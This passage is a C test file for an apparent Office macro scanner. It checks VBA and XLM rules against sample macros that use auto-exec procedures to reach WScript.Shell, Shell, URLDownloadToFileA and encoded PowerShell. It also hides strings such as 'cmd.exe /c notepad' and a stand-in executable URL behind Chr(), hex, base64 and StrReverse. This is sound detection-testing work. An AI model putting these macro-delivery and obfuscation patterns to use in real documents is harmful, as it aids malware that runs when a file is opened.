/* The VBA and XLM rules (src/office/vba-rules.c) on hand-made modules, and
 * every row of every keyword table (the .tsv files of src/data) through a snippet built
 * from the row.  Projects are built here directly, as the readers would
 * fill them, so these tests do not depend on the readers. */
#include "config.h"

#include <string.h>

#include "office/office-private.h"
#include "office/vba-tables.h"

/* -- building documents ------------------------------------------------------ */

static void
module_free (gpointer p)
{
	mh_vba_module *m = p;
	g_free (m->name);
	g_free (m->stream);
	g_free (m->source);
	g_free (m);
}

static mh_vba_project *
project_new (void)
{
	mh_vba_project *p = g_new0 (mh_vba_project, 1);
	p->location = g_strdup ("Macros");
	p->modules = g_ptr_array_new_with_free_func (module_free);
	p->problems = g_ptr_array_new_with_free_func (g_free);
	return p;
}

/* @kind is one of the static strings of office.h */
static void
project_add (mh_vba_project *p, const char *name, const char *kind, const char *source)
{
	mh_vba_module *m = g_new0 (mh_vba_module, 1);
	m->name = g_strdup (name);
	m->stream = g_strdup (name);
	m->kind = kind;
	m->source = g_strdup (source);
	m->source_len = strlen (source);
	g_ptr_array_add (p->modules, m);
}

static mh_document *
document_new (gboolean has_controls)
{
	mh_document *doc = _mh_document_new ("test.docm", (const guint8 *) "", 0, 0);
	doc->has_controls = has_controls;
	return doc;
}

/* One module of kind "standard" named Module1, analysed. */
static mh_document *
analyse_one (const char *source, gboolean has_controls, guint max_decode_rounds)
{
	mh_office_options options;
	mh_office_options_init_default (&options);
	options.limits.max_decode_rounds = max_decode_rounds;
	mh_document *doc = document_new (has_controls);
	mh_vba_project *p = project_new ();
	project_add (p, "Module1", "standard", source);
	g_ptr_array_add (doc->vba_projects, p);
	_mh_vba_rules_apply (doc, &options);
	return doc;
}

static mh_document *
analyse_source (const char *source)
{
	return analyse_one (source, FALSE, 4);
}

static mh_document *
analyse_project (mh_vba_project *p, gboolean has_controls)
{
	mh_office_options options;
	mh_office_options_init_default (&options);
	mh_document *doc = document_new (has_controls);
	g_ptr_array_add (doc->vba_projects, p);
	_mh_vba_rules_apply (doc, &options);
	return doc;
}

static mh_document *
analyse_xlm (const char *formulas)
{
	mh_office_options options;
	mh_office_options_init_default (&options);
	mh_document *doc = document_new (FALSE);
	_mh_xlm_rules_apply (doc, formulas, strlen (formulas), "Macro1!A1", &options);
	return doc;
}

/* -- looking at the result ----------------------------------------------------- */

static gboolean
contains_nocase (const char *hay, const char *needle)
{
	if (!hay || !needle)
		return FALSE;
	g_autofree char *h = g_ascii_strdown (hay, -1);
	g_autofree char *n = g_ascii_strdown (needle, -1);
	return strstr (h, n) != NULL;
}

/* The first finding @id whose evidence is @evidence, case aside (any
 * evidence when NULL). */
static const mh_finding *
find_finding (const mh_document *doc, const char *id, const char *evidence)
{
	for (guint i = 0; i < doc->findings->len; i++) {
		const mh_finding *f = g_ptr_array_index (doc->findings, i);
		if (strcmp (f->id, id) == 0 &&
		    (!evidence || (f->evidence && g_ascii_strcasecmp (f->evidence, evidence) == 0)))
			return f;
	}
	return NULL;
}

/* The first finding @id whose evidence contains @part. */
static const mh_finding *
find_finding_with (const mh_document *doc, const char *id, const char *part)
{
	for (guint i = 0; i < doc->findings->len; i++) {
		const mh_finding *f = g_ptr_array_index (doc->findings, i);
		if (strcmp (f->id, id) == 0 && contains_nocase (f->evidence, part))
			return f;
	}
	return NULL;
}

static guint
count_findings (const mh_document *doc, const char *id)
{
	guint n = 0;
	for (guint i = 0; i < doc->findings->len; i++)
		n += strcmp (((const mh_finding *) g_ptr_array_index (doc->findings, i))->id, id) == 0;
	return n;
}

/* Findings other than the one vba.macros per project. */
static guint
count_other_findings (const mh_document *doc)
{
	return doc->findings->len - count_findings (doc, "vba.macros");
}

static const mh_ioc *
find_ioc (const mh_document *doc, const char *kind, const char *value)
{
	for (guint i = 0; i < doc->iocs->len; i++) {
		const mh_ioc *ioc = g_ptr_array_index (doc->iocs, i);
		if (strcmp (ioc->kind, kind) == 0 && strcmp (ioc->value, value) == 0)
			return ioc;
	}
	return NULL;
}

static void
dump (const mh_document *doc)
{
	for (guint i = 0; i < doc->findings->len; i++) {
		const mh_finding *f = g_ptr_array_index (doc->findings, i);
		g_test_message ("finding %s [%s] %s | %s | %s | %s", f->id, mh_severity_to_string (f->severity),
		                f->location ? f->location : "-", f->evidence ? f->evidence : "-",
		                f->decoding ? f->decoding : "-", f->summary);
	}
	for (guint i = 0; i < doc->iocs->len; i++) {
		const mh_ioc *ioc = g_ptr_array_index (doc->iocs, i);
		g_test_message ("ioc %s %s at %s (%s)", ioc->kind, ioc->value, ioc->location,
		                ioc->decoding ? ioc->decoding : "-");
	}
	for (guint i = 0; i < doc->problems->len; i++)
		g_test_message ("problem %s", (const char *) g_ptr_array_index (doc->problems, i));
}

/* -- the verdict and the call graph -------------------------------------------- */

static void
test_autoexec_reaches_execute (void)
{
	mh_vba_project *p = project_new ();
	project_add (p, "ThisDocument", "document",
	             "Attribute VB_Name = \"ThisDocument\"\r\n"
	             "Private Sub Document_Open()\r\n"
	             "    Prepare\r\n"
	             "End Sub\r\n");
	project_add (p, "Module1", "standard",
	             "Attribute VB_Name = \"Module1\"\r\n"
	             "Sub Prepare()\r\n"
	             "    Call Payload\r\n"
	             "End Sub\r\n"
	             "Sub Payload()\r\n"
	             "    CreateObject(\"WScript.Shell\").Run \"notepad\"\r\n"
	             "End Sub\r\n");
	g_autoptr (mh_document) doc = analyse_project (p, FALSE);
	dump (doc);

	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MALICIOUS);
	const mh_finding *autoexec = find_finding (doc, "vba.autoexec", "Document_Open");
	g_assert_nonnull (autoexec);
	g_assert_cmpint (autoexec->severity, ==, MH_SEVERITY_MEDIUM);
	g_assert_cmpstr (autoexec->location, ==, "ThisDocument:2");
	g_assert_true (strstr (autoexec->summary, "runs when the document is opened"));

	const mh_finding *shell = find_finding (doc, "vba.execute", "WScript.Shell");
	g_assert_nonnull (shell);
	g_assert_cmpint (shell->severity, ==, MH_SEVERITY_HIGH);
	g_assert_cmpstr (shell->location, ==, "Module1:6");
	g_assert_true (strstr (shell->summary, "Sub Payload, which the auto-exec procedure Document_Open reaches"));
	g_assert_nonnull (find_finding (doc, "vba.execute", ".Run"));
	/* the literal object name is said, and does not count by itself */
	const mh_finding *create = find_finding (doc, "vba.execute", "CreateObject(\"WScript.Shell\")");
	g_assert_nonnull (create);
	g_assert_cmpint (create->severity, ==, MH_SEVERITY_INFO);

	const mh_finding *macros = find_finding (doc, "vba.macros", NULL);
	g_assert_nonnull (macros);
	g_assert_cmpint (macros->severity, ==, MH_SEVERITY_LOW);
	g_assert_cmpstr (macros->summary, ==, "2 modules: ThisDocument, Module1");
	g_assert_cmpuint (count_findings (doc, "vba.macros"), ==, 1);
}

static void
test_dangerous_code_not_called (void)
{
	mh_vba_project *p = project_new ();
	project_add (p, "ThisDocument", "document",
	             "Private Sub Document_Open()\n"
	             "    MsgBox \"Hello\"\n"
	             "End Sub\n");
	project_add (p, "Module1", "standard",
	             "Sub Payload()\n"
	             "    CreateObject(\"WScript.Shell\").Run \"notepad\"\n"
	             "End Sub\n");
	g_autoptr (mh_document) doc = analyse_project (p, FALSE);
	dump (doc);

	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
	const mh_finding *shell = find_finding (doc, "vba.execute", "WScript.Shell");
	g_assert_nonnull (shell);
	g_assert_true (strstr (shell->summary, "in Sub Payload, which no auto-exec procedure calls"));
}

static void
test_dangerous_code_without_autoexec (void)
{
	g_autoptr (mh_document) doc = analyse_source ("Sub Payload()\n  Shell \"notepad\"\nEnd Sub\n");
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
	g_assert_null (find_finding (doc, "vba.autoexec", NULL));
	g_assert_nonnull (find_finding (doc, "vba.execute", "Shell"));
}

static void
test_autoexec_alone (void)
{
	g_autoptr (mh_document) doc = analyse_source ("Sub AutoOpen()\n  MsgBox \"Hello\"\nEnd Sub\n");
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
	g_assert_cmpuint (count_other_findings (doc), ==, 1);
	g_assert_nonnull (find_finding (doc, "vba.autoexec", "AutoOpen"));
}

static void
test_plain_macros_and_clean (void)
{
	g_autoptr (mh_document) doc = analyse_source ("Sub Tidy()\n  Selection.Font.Bold = True\nEnd Sub\n");
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MACROS);
	g_assert_cmpuint (count_other_findings (doc), ==, 0);

	/* only what the editor writes by itself: no code */
	g_autoptr (mh_document) empty = analyse_source ("Attribute VB_Name = \"ThisDocument\"\r\n"
	                                                "Attribute VB_Base = \"1Normal.ThisDocument\"\r\n"
	                                                "Option Explicit\r\n' a comment\r\n");
	g_assert_cmpint (empty->vba_verdict, ==, MH_VERDICT_CLEAN);
	g_assert_cmpuint (count_findings (empty, "vba.macros"), ==, 1);
	g_assert_cmpuint (count_other_findings (empty), ==, 0);
}

/* Calls by module-qualified names, by names in strings (Application.Run),
 * and calls whose target is computed. */
static void
test_call_graph (void)
{
	static const char *const reached[] = {
		"Sub AutoOpen()\n  Module1.Payload\nEnd Sub\n",
		"Sub AutoOpen()\n  Application.Run \"Module1.Payload\"\nEnd Sub\n",
		"Sub AutoOpen()\n  Application.Run (\"'doc.docm'!Payload\")\nEnd Sub\n",
		"Sub AutoOpen()\n  Application.OnTime Now, \"Payload\"\nEnd Sub\n",
		"Sub AutoOpen()\n  Dim n\n  n = \"Pay\" & \"load\"\n  Application.Run n\nEnd Sub\n",
		"Sub AutoOpen()\n  CallByName Me, name, VbMethod\nEnd Sub\n",
		"Sub AutoOpen()\n  Helper\nEnd Sub\nFunction Helper()\n  Payload\nEnd Function\n",
	};
	for (guint i = 0; i < G_N_ELEMENTS (reached); i++) {
		mh_vba_project *p = project_new ();
		project_add (p, "ThisDocument", "document", reached[i]);
		project_add (p, "Module1", "standard", "Sub Payload()\n  Shell \"notepad\"\nEnd Sub\n");
		g_autoptr (mh_document) doc = analyse_project (p, FALSE);
		g_test_message ("case %u", i);
		dump (doc);
		g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MALICIOUS);
	}
	/* Application.Run "X" is a call, not a program being run */
	g_autoptr (mh_document) run = analyse_source ("Sub Tidy()\n  Application.Run \"Other\"\nEnd Sub\n");
	g_assert_null (find_finding (run, "vba.execute", NULL));

	/* a name qualified by an object that is not a module of the project
	 * is a method of that object */
	mh_vba_project *p = project_new ();
	project_add (p, "ThisDocument", "document", "Sub AutoOpen()\n  ActiveDocument.Payload\nEnd Sub\n");
	project_add (p, "Module1", "standard", "Sub Payload()\n  Shell \"notepad\"\nEnd Sub\n");
	g_autoptr (mh_document) doc = analyse_project (p, FALSE);
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
}

static void
test_declare (void)
{
	static const char declare[] =
		"Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" _\n"
		"    (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, _\n"
		"     ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long\n";
	g_autofree char *called = g_strconcat (declare, "Sub Workbook_Open()\n  URLDownloadToFileA 0, u, f, 0, 0\nEnd Sub\n", NULL);
	g_autoptr (mh_document) doc = analyse_source (called);
	dump (doc);
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MALICIOUS);
	const mh_finding *f = find_finding (doc, "vba.download", "URLDownloadToFileA");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->location, ==, "Module1:1");
	g_assert_nonnull (find_finding (doc, "vba.execute", "Declare ... Lib"));

	g_autofree char *unused = g_strconcat (declare, "Sub Workbook_Open()\n  MsgBox 1\nEnd Sub\n", NULL);
	g_autoptr (mh_document) doc2 = analyse_source (unused);
	g_assert_cmpint (doc2->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
	f = find_finding (doc2, "vba.download", "URLDownloadToFileA");
	g_assert_nonnull (f);
	g_assert_true (strstr (f->summary, "which no auto-exec procedure calls"));
}

/* -- the lexer ------------------------------------------------------------------- */

static void
test_comments (void)
{
	g_autoptr (mh_document) doc = analyse_source (
		"Sub AutoOpen()\n"
		"    ' Shell \"notepad\"\n"
		"    Rem Shell \"notepad\"\n"
		"    x = 1 ' Shell \"notepad\"\n"
		"    x = 2: Rem Shell \"notepad\"\n"
		"    ' a comment that goes on _\n"
		"      Shell \"notepad\"\n"
		"    Remark = 1\n"
		"End Sub\n");
	dump (doc);
	g_assert_null (find_finding (doc, "vba.execute", NULL));
	g_assert_null (find_finding (doc, "vba.string-keyword", NULL));
	g_assert_cmpuint (count_other_findings (doc), ==, 1);   /* the auto-exec */
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);

	/* an apostrophe inside a string starts no comment */
	g_autoptr (mh_document) quoted = analyse_source ("Sub T()\n  x = \"it's\": Shell \"notepad\"\nEnd Sub\n");
	g_assert_nonnull (find_finding (quoted, "vba.execute", "Shell"));
}

static void
test_string_keyword (void)
{
	g_autoptr (mh_document) doc = analyse_source ("Sub AutoOpen()\n  MsgBox \"Shell\"\nEnd Sub\n");
	dump (doc);
	const mh_finding *f = find_finding (doc, "vba.string-keyword", "Shell");
	g_assert_nonnull (f);
	g_assert_cmpint (f->severity, ==, MH_SEVERITY_INFO);
	g_assert_null (find_finding (doc, "vba.execute", NULL));
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);   /* the auto-exec alone */
	g_assert_cmpuint (count_other_findings (doc), ==, 2);

	/* "" inside a string is a quote, not its end */
	g_autoptr (mh_document) escaped = analyse_source ("Sub T()\n  MsgBox \"say \"\"Shell\"\" now\"\nEnd Sub\n");
	g_assert_nonnull (find_finding (escaped, "vba.string-keyword", "Shell"));
	g_assert_null (find_finding (escaped, "vba.execute", NULL));
}

static void
test_continuation (void)
{
	g_autoptr (mh_document) doc = analyse_source ("Sub T()\n  Shell _\n    \"notepad\", _\n    vbHide\nEnd Sub\n"
	                                              "Sub U()\n  Open f _\n  For Output As #1\nEnd Sub\n");
	dump (doc);
	const mh_finding *f = find_finding (doc, "vba.execute", "Shell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->location, ==, "Module1:2");
	f = find_finding (doc, "vba.write-file", "Open ... For Output");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->location, ==, "Module1:7");
	g_assert_true (strstr (f->summary, "Sub U"));
	/* an identifier ending in _ is no continuation */
	g_autoptr (mh_document) not_cont = analyse_source ("Sub T()\n  x = a_\n  Shell y\nEnd Sub\n");
	f = find_finding (not_cont, "vba.execute", "Shell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->location, ==, "Module1:3");
}

/* A procedure header names things; it does not use them. */
static void
test_header_is_not_use (void)
{
	g_autoptr (mh_document) doc = analyse_source ("Public Sub Shell(ByVal Kill As String)\n  MsgBox 1\nEnd Sub\n");
	g_assert_null (find_finding (doc, "vba.execute", NULL));
	g_assert_null (find_finding (doc, "vba.write-file", NULL));
}

/* -- controls ---------------------------------------------------------------------- */

static void
test_control_events (void)
{
	static const char source[] = "Private Sub CommandButton1_Click()\n  Shell \"notepad\"\nEnd Sub\n";
	g_autoptr (mh_document) without = analyse_one (source, FALSE, 4);
	dump (without);
	const mh_finding *f = find_finding (without, "vba.autoexec", "CommandButton1_Click");
	g_assert_nonnull (f);
	g_assert_cmpint (f->severity, ==, MH_SEVERITY_INFO);
	g_assert_true (strstr (f->summary, "cannot run by itself"));
	g_assert_cmpint (without->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
	f = find_finding (without, "vba.execute", "Shell");
	g_assert_true (strstr (f->summary, "which no auto-exec procedure calls"));

	g_autoptr (mh_document) with = analyse_one (source, TRUE, 4);
	f = find_finding (with, "vba.autoexec", "CommandButton1_Click");
	g_assert_nonnull (f);
	g_assert_cmpint (f->severity, ==, MH_SEVERITY_MEDIUM);
	g_assert_true (strstr (f->summary, "runs when the user clicks the control"));
	g_assert_cmpint (with->vba_verdict, ==, MH_VERDICT_MALICIOUS);

	/* a UserForm in the project is a control too */
	mh_vba_project *p = project_new ();
	project_add (p, "Module1", "standard", source);
	project_add (p, "UserForm1", "form", "Private Sub UserForm_Initialize()\nEnd Sub\n");
	g_autoptr (mh_document) form = analyse_project (p, FALSE);
	g_assert_cmpint (form->vba_verdict, ==, MH_VERDICT_MALICIOUS);
}

/* Word runs Sub Main of a module named AutoOpen (or AutoClose, ...). */
static void
test_word_module_main (void)
{
	mh_vba_project *p = project_new ();
	project_add (p, "AutoOpen", "standard", "Sub Main()\n  Shell \"notepad\"\nEnd Sub\n");
	g_autoptr (mh_document) doc = analyse_project (p, FALSE);
	dump (doc);
	const mh_finding *f = find_finding (doc, "vba.autoexec", "Main");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->location, ==, "AutoOpen:1");
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MALICIOUS);

	/* Main elsewhere is an ordinary procedure */
	g_autoptr (mh_document) other = analyse_source ("Sub Main()\n  MsgBox 1\nEnd Sub\n");
	g_assert_null (find_finding (other, "vba.autoexec", NULL));
}

/* -- decoding ---------------------------------------------------------------------- */

static char *
base64_utf16le (const char *text)
{
	gsize len = strlen (text);
	guint8 *bytes = g_malloc (2 * len);
	for (gsize i = 0; i < len; i++) {
		bytes[2 * i] = (guint8) text[i];
		bytes[2 * i + 1] = 0;
	}
	char *b64 = g_base64_encode (bytes, 2 * len);
	g_free (bytes);
	return b64;
}

static void
test_powershell_encoded (void)
{
	g_autofree char *b64 = base64_utf16le ("Write-Output test");
	g_autofree char *source = g_strdup_printf ("Sub AutoOpen()\n  Shell \"powershell -enc %s\"\nEnd Sub\n", b64);
	g_autoptr (mh_document) doc = analyse_source (source);
	dump (doc);
	g_assert_nonnull (find_finding (doc, "vba.powershell", "powershell"));
	g_assert_nonnull (find_finding (doc, "vba.powershell", "-enc"));
	const mh_finding *decoded = NULL;
	for (guint i = 0; i < doc->findings->len; i++) {
		const mh_finding *f = g_ptr_array_index (doc->findings, i);
		if (f->decoding && strstr (f->decoding, "base64") && strstr (f->decoding, "UTF-16LE") &&
		    g_strcmp0 (f->evidence, "Write-Output test") == 0)
			decoded = f;
	}
	g_assert_nonnull (decoded);
	g_assert_cmpstr (decoded->id, ==, "vba.obfuscation");
	g_assert_cmpstr (decoded->decoding, ==, "base64 → UTF-16LE");
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MALICIOUS);
}

static char *
chr_expression (const char *text)
{
	GString *s = g_string_new (NULL);
	for (const char *p = text; *p; p++)
		g_string_append_printf (s, "%sChr(%d)", p == text ? "" : " & ", (guchar) *p);
	return g_string_free (s, FALSE);
}

static void
test_chr_url (void)
{
	g_autofree char *expr = chr_expression ("http://x.invalid/a.exe");
	g_autofree char *source = g_strdup_printf ("Sub T()\n  u = %s\nEnd Sub\n", expr);
	g_autoptr (mh_document) doc = analyse_source (source);
	dump (doc);
	const mh_ioc *url = find_ioc (doc, "url", "http://x.invalid/a.exe");
	g_assert_nonnull (url);
	g_assert_nonnull (url->decoding);
	g_assert_true (strstr (url->decoding, "Chr()"));
	g_assert_cmpstr (url->location, ==, "Module1:2");
	const mh_ioc *exe = find_ioc (doc, "executable", "a.exe");
	g_assert_nonnull (exe);
	g_assert_nonnull (exe->decoding);
	/* the decoded string itself, and the density of Chr calls */
	g_assert_nonnull (find_finding (doc, "vba.obfuscation", "http://x.invalid/a.exe"));
	g_assert_nonnull (find_finding (doc, "vba.obfuscation", "Chr 22 times"));

	/* hex: with &H numbers, ChrW, and mixed with literals */
	g_autoptr (mh_document) mixed = analyse_source ("Sub T()\n  c = ChrW(&H57) & \"Script.Sh\" & Chr$(101) & \"ll\"\n"
	                                                "  Set o = CreateObject(c)\nEnd Sub\n");
	dump (mixed);
	const mh_finding *f = find_finding (mixed, "vba.execute", "WScript.Shell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->decoding, ==, "Chr() codes");

	/* StrReverse of a literal */
	g_autoptr (mh_document) reversed = analyse_source ("Sub T()\n  o = StrReverse(\"llehS.tpircSW\")\nEnd Sub\n");
	f = find_finding (reversed, "vba.execute", "WScript.Shell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->decoding, ==, "StrReverse");

	/* literals split to hide a word */
	g_autoptr (mh_document) split = analyse_source ("Sub T()\n  o = \"WScr\" & \"ipt.Sh\" + \"ell\"\nEnd Sub\n");
	f = find_finding (split, "vba.execute", "WScript.Shell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->decoding, ==, "concatenation");
}

static void
test_hex_and_base64 (void)
{
	/* "cmd.exe /c notepad" in hex, and "http://x.invalid/p" in base64 */
	g_autoptr (mh_document) doc = analyse_source (
		"Sub T()\n"
		"  a = Decode(\"636d642e657865202f63206e6f7465706164\")\n"
		"  b = Decode(\"aHR0cDovL3guaW52YWxpZC9w\")\n"
		"  c = \"ThisIsJustAVeryLongIdentifierLikeWord\"\n"
		"End Sub\n");
	dump (doc);
	const mh_finding *f = find_finding (doc, "vba.execute", "cmd.exe");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->decoding, ==, "hex");
	g_assert_nonnull (find_finding (doc, "vba.obfuscation", "cmd.exe /c notepad"));
	const mh_ioc *url = find_ioc (doc, "url", "http://x.invalid/p");
	g_assert_nonnull (url);
	g_assert_cmpstr (url->decoding, ==, "base64");
	/* words that happen to be base64 decode to noise: nothing said */
	g_assert_cmpuint (count_findings (doc, "vba.obfuscation"), ==, 2);
}

static char *
nested_base64 (const char *text, guint times)
{
	char *s = g_strdup (text);
	for (guint i = 0; i < times; i++) {
		char *next = g_base64_encode ((const guchar *) s, strlen (s));
		g_free (s);
		s = next;
	}
	return s;
}

static void
test_decode_rounds_cap (void)
{
	g_autofree char *b64 = nested_base64 ("powershell -nop -c notepad", 3);
	g_autofree char *source = g_strdup_printf ("Sub T()\n  x = \"%s\"\nEnd Sub\n", b64);

	g_autoptr (mh_document) full = analyse_one (source, FALSE, 4);
	dump (full);
	const mh_finding *f = find_finding (full, "vba.powershell", "powershell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->decoding, ==, "base64 → base64 → base64");

	g_autoptr (mh_document) capped = analyse_one (source, FALSE, 2);
	dump (capped);
	g_assert_null (find_finding (capped, "vba.powershell", NULL));
	gboolean said = FALSE;
	for (guint i = 0; i < capped->problems->len; i++)
		said = said || strstr (g_ptr_array_index (capped->problems, i), "deeper than 2 decoding rounds");
	g_assert_true (said);
	for (guint i = 0; i < capped->findings->len; i++) {
		const mh_finding *g = g_ptr_array_index (capped->findings, i);
		g_assert_false (g->decoding && strstr (g->decoding, "base64 → base64 → base64"));
	}

	/* no rounds at all: nothing decoded, and said */
	g_autoptr (mh_document) none = analyse_one (source, FALSE, 0);
	g_assert_null (find_finding (none, "vba.obfuscation", NULL));
	g_assert_cmpuint (none->problems->len, >, 0);
}

/* -- indicators --------------------------------------------------------------------- */

static void
test_iocs (void)
{
	g_autoptr (mh_document) doc = analyse_source (
		"Sub T()\n"
		"  u = \"see https://example.com/path/file.php?id=1.\"\n"
		"  i = \"connect to 192.0.2.10 now\"\n"
		"  e = \"C:\\Users\\Public\\update.exe\"\n"
		"  n = \"\\\\fileserver\\share\\tool.dll\"\n"
		"  v = \"1.0.0.0\"\n"
		"  w = \"version 1.2.3.4\"\n"
		"  z = \"v2.10.3.7\"\n"
		"  q = \"1.2.3.4.5\"\n"
		"  s = \"http://schemas.microsoft.com/office/2006\"\n"
		"  ' http://in.a.comment.invalid/x.exe\n"
		"End Sub\n");
	dump (doc);
	const mh_ioc *url = find_ioc (doc, "url", "https://example.com/path/file.php?id=1");
	g_assert_nonnull (url);
	g_assert_cmpstr (url->location, ==, "Module1:2");
	g_assert_null (url->decoding);
	g_assert_nonnull (find_ioc (doc, "ip", "192.0.2.10"));
	g_assert_nonnull (find_ioc (doc, "executable", "update.exe"));
	g_assert_nonnull (find_ioc (doc, "executable", "tool.dll"));
	g_assert_nonnull (find_ioc (doc, "unc-path", "\\\\fileserver\\share\\tool.dll"));
	g_assert_null (find_ioc (doc, "ip", "1.0.0.0"));
	g_assert_null (find_ioc (doc, "ip", "1.2.3.4"));
	g_assert_null (find_ioc (doc, "ip", "2.10.3.7"));
	g_assert_null (find_ioc (doc, "ip", "2.3.4.5"));
	g_assert_null (find_ioc (doc, "ip", "1.2.3.4"));
	g_assert_null (find_ioc (doc, "url", "http://schemas.microsoft.com/office/2006"));
	g_assert_null (find_ioc (doc, "url", "http://in.a.comment.invalid/x.exe"));
	g_assert_cmpuint (doc->iocs->len, ==, 5);
}

/* -- every row of every table ---------------------------------------------------------- */

static void
test_tables_read (void)
{
	const mh_rule_tables *t = _mh_rule_tables ();
	g_assert_cmpuint (t->bad_rows, ==, 0);
	g_assert_cmpuint (t->autoexec->len, >=, 60);
	g_assert_cmpuint (t->suspicious->len, >=, 100);
	g_assert_cmpuint (t->xlm->len, >=, 40);
	/* the names olevba and mraptor use are all there */
	static const char *const known[] = {
		"AutoExec", "AutoOpen", "Auto_Open", "AutoClose", "Auto_Close", "AutoNew", "AutoExit",
		"Document_Open", "DocumentOpen", "Document_Close", "DocumentBeforeClose", "Document_BeforeClose",
		"DocumentChange", "Document_New", "NewDocument", "Workbook_Open", "Workbook_Activate",
		"Workbook_Close", "Workbook_BeforeClose", "Worksheet_Calculate",
		"X_Painted", "X_Painting", "X_GotFocus", "X_LostFocus", "X_MouseHover", "X_Click", "X_Change",
		"X_Resize", "X_BeforeNavigate2", "X_BeforeScriptExecute", "X_DocumentComplete",
		"X_DownloadBegin", "X_DownloadComplete", "X_FileDownload", "X_NavigateComplete2",
		"X_NavigateError", "X_ProgressChange", "X_PropertyChange", "X_SetSecureLockIcon",
		"X_StatusTextChange", "X_TitleChange", "X_MouseMove", "X_MouseEnter", "X_MouseLeave",
		"X_Layout", "X_OnConnecting", "X_FollowHyperlink", "X_ContentControlOnEnter",
		"X_BeforeDropOrPaste", "X_Enter", "X_Exit", "X_Initialize",
	};
	for (guint i = 0; i < G_N_ELEMENTS (known); i++) {
		g_autofree char *source = g_strdup_printf ("Sub %s()\nEnd Sub\n", known[i]);
		g_autoptr (mh_document) doc = analyse_one (source, TRUE, 4);
		g_test_message ("%s", known[i]);
		g_assert_nonnull (find_finding (doc, "vba.autoexec", known[i]));
	}
}

static void
test_autoexec_row (gconstpointer data)
{
	const mh_autoexec_rule *rule = data;
	g_autofree char *name = rule->suffix ? g_strconcat ("Thing1", rule->name, NULL) : g_strdup (rule->name);
	g_autofree char *source = g_strdup_printf ("Private Sub %s()\n  MsgBox 1\nEnd Sub\n", name);
	gboolean control = strcmp (rule->trigger, "control") == 0;

	g_autoptr (mh_document) doc = analyse_one (source, FALSE, 4);
	dump (doc);
	const mh_finding *f = find_finding (doc, "vba.autoexec", name);
	g_assert_nonnull (f);
	g_assert_cmpint (f->severity, ==, control ? MH_SEVERITY_INFO : MH_SEVERITY_MEDIUM);
	g_assert_true (strstr (f->summary, rule->when));
	g_assert_cmpint (doc->vba_verdict, ==, control ? MH_VERDICT_MACROS : MH_VERDICT_SUSPICIOUS);

	g_autoptr (mh_document) with = analyse_one (source, TRUE, 4);
	f = find_finding (with, "vba.autoexec", name);
	g_assert_nonnull (f);
	g_assert_cmpint (f->severity, ==, MH_SEVERITY_MEDIUM);
	g_assert_cmpint (with->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);

	/* a comment or a string that names the event is no procedure */
	g_autofree char *mention = g_strdup_printf ("Sub T()\n  ' %s\n  x = \"%s\"\nEnd Sub\n", name, name);
	g_autoptr (mh_document) none = analyse_one (mention, TRUE, 4);
	g_assert_null (find_finding (none, "vba.autoexec", NULL));
}

/* The keyword written as code: "..." becomes a word, a method gets an object. */
static char *
as_code (const mh_keyword_rule *rule)
{
	g_autofree char *words = NULL;
	g_auto (GStrv) parts = g_strsplit (rule->keyword, "...", -1);
	words = g_strjoinv ("x", parts);
	if (strcmp (rule->capability, "obfuscation") == 0) {
		GString *s = g_string_new ("y = ");
		for (guint i = 0; i < 12; i++)
			g_string_append_printf (s, "%s%s(z)", i ? " & " : "", words);
		return g_string_free (s, FALSE);
	}
	return rule->method ? g_strconcat ("obj", words, NULL) : g_strdup (words);
}

static void
test_suspicious_row (gconstpointer data)
{
	const mh_keyword_rule *rule = data;
	gboolean dangerous = strcmp (rule->capability, "execute") == 0 || strcmp (rule->capability, "download") == 0 ||
	                     strcmp (rule->capability, "write-file") == 0 || strcmp (rule->capability, "powershell") == 0;

	if (rule->where & MH_KEYWORD_IN_CODE) {
		g_autofree char *code = as_code (rule);
		g_autofree char *source = g_strdup_printf ("Sub T()\n  %s\nEnd Sub\n", code);
		g_autoptr (mh_document) doc = analyse_source (source);
		g_test_message ("code: %s", code);
		dump (doc);
		gboolean obfuscation = strcmp (rule->capability, "obfuscation") == 0;
		const mh_finding *f = obfuscation ? find_finding_with (doc, rule->finding_id, rule->keyword)
		                                  : find_finding (doc, rule->finding_id, rule->keyword);
		g_assert_nonnull (f);
		g_assert_cmpstr (f->location, ==, "Module1:2");
		if (strcmp (rule->capability, "obfuscation") != 0) {
			g_assert_cmpint (f->severity, ==, rule->severity);
			g_assert_true (strstr (f->summary, rule->description));
		}
		g_assert_true (strstr (f->summary, "in Sub T, which no auto-exec procedure calls"));
		g_assert_cmpint (doc->vba_verdict, ==, dangerous ? MH_VERDICT_SUSPICIOUS : MH_VERDICT_MACROS);

		/* reached from an auto-exec procedure */
		g_autofree char *autoexec = g_strdup_printf ("Sub AutoOpen()\n  T\nEnd Sub\n%s", source);
		g_autoptr (mh_document) reached = analyse_source (autoexec);
